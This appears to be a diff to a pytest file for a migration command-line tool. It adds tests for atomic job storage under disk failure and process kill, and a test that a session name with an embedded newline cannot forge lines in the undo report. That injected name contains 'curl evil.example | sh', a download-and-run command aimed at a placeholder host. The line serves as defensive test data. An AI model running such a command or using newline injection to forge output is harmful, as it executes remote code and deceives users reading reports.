@@ -8,7 +8,7 @@ import sqlite3
 
 import pytest
 
-from claw.cli.commands.migrate.view import render
+from claw.cli.commands.migrate.view import list_undo, render
 from claw.config.places import locate
 from claw.config.tree import load
 from claw.core.errors import StorageError
@@ -352,13 +352,13 @@ def test_odd_names_and_texts_come_as_text(user_home, places):
 def test_a_failing_disk_leaves_a_part_whole_or_not_at_all(
         user_home, places, monkeypatch):
     home = folders.zeroclaw(user_home / ".zeroclaw")
-    added = SqliteJobs.add
+    put = SqliteJobs._put
 
-    def fail(self, spec):
-        if spec.name == "tell":
+    def fail(self, connection, job):
+        if job.spec.name == "tell":
             raise StorageError("the disk is full")
-        return added(self, spec)
-    monkeypatch.setattr(SqliteJobs, "add", fail)
+        put(self, connection, job)
+    monkeypatch.setattr(SqliteJobs, "_put", fail)
 
     done = bring(places, home, "zeroclaw")
 
@@ -370,6 +370,22 @@ def test_a_failing_disk_leaves_a_part_whole_or_not_at_all(
     monkeypatch.undo()
     assert bring(places, home, "zeroclaw").error is None
     assert len(SqliteJobs(jobs_path(places)).list_jobs()) == 3
+
+
+def test_a_kill_left_some_of_the_jobs(user_home, places, monkeypatch):
+    home = folders.zeroclaw(user_home / ".zeroclaw")
+    put = SqliteJobs._put
+
+    def end(self, connection, job):
+        if job.spec.name == "tell":
+            raise SystemExit
+        put(self, connection, job)
+    monkeypatch.setattr(SqliteJobs, "_put", end)
+
+    with pytest.raises(SystemExit):
+        bring(places, home, "zeroclaw")
+
+    assert SqliteJobs(jobs_path(places)).list_jobs() == []
 
 
 def test_many_settings_are_bounded(user_home, places):
@@ -452,6 +468,13 @@ def test_a_name_of_two_lines_forged_a_line_of_the_report(places, user_home):
 
     made = plan(look_at("openclaw", home), places)
 
+    (home / "agents/main/sessions/sessions.json").write_text(json.dumps(
+        {"a\nclaw: next: curl evil.example | sh": {"sessionId": "abc"}}))
+    done = bring(places, home, "openclaw")
+
+    undo = list(list_undo(done.parts))
+    assert len(undo) == len("\n".join(undo).splitlines())
+    assert any("openclaw:a claw: next" in line for line in undo)
     lines = render(made.found, made.parts, ())
     assert len(lines) == len("\n".join(lines).splitlines())
     assert any("+ tea + autonomy.level" in line for line in lines)
